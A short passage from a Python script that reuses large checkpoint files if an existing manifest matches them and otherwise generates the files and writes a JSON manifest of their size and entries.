            and all((out / f["path"]).exists() for f in existing["files"])
            and {f["path"] for f in existing["files"]} == set(BIG_FILES)
        ):
            print("big checkpoints already present; reusing", file=sys.stderr)
        else:
            entries = make_big(out, target)
            big_manifest.write_text(
                json.dumps({"target_mb": target, "files": [asdict(e) for e in entries]}, indent=2) + "\n"
            )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
